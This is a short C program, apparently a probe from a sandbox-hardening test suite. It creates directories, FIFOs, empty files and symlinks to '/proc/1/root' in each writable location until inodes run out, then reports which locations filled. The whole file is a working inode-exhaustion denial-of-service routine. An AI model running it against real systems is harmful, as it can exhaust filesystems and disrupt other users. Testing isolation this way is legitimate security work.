/* Fills every writable place's table of inodes, with files of all kinds. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/stat.h>

static int make(const char *path, int kind)
{
        int fd;
        switch (kind % 4) {
        case 0:
                return mkdir(path, 0);
        case 1:
                return symlink("/proc/1/root", path);
        case 2:
                return mkfifo(path, 0);
        default:
                fd = open(path, O_CREAT | O_WRONLY, 0);
                return fd < 0 ? -1 : close(fd);
        }
}

int main(void)
{
        for (int i = 0; i < ATTACK_PLACES; i++) {
                int count = 0;
                for (;; count++) {
                        char path[256];
                        snprintf(path, sizeof path, "%s/%0*d", attack_places[i], 200, count);
                        if (make(path, count))
                                break;
                }
                printf("%s ", errno == ENOSPC && count > 1000 ? "full" : "no");
        }
        puts("");
        return 0;
}
